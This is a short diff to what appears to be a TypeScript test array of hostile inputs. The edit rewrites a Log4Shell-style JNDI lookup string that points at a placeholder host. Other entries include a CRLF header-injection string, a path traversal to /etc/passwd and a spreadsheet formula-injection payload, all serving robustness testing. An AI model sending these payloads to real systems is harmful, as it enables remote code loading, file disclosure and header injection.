@@ -171,12 +171,12 @@ const HOSTILE: readonly string[] = [
   '\uFDFA'.repeat(200),
   'क्षत्रिय '.repeat(150),
   '%00%0d%0aSet-Cookie: a=b',
-  '${jndi:ldap://x.example/a}',
+  '\x24{jndi:ldap://x.example/a}',
   '\\u0000 \\x00 \\0',
   '-1e308 NaN null undefined',
   '../../../../etc/passwd',
   '\u200bx\u200b',
-  ' '.repeat(3) + 'tabs\tand\nlines',
+  '   tabs\tand\nlines',
   '=cmd|"/c calc"!A1',
 ];
 const hostile = Array.from({ length: 300 }, (_, at) => {
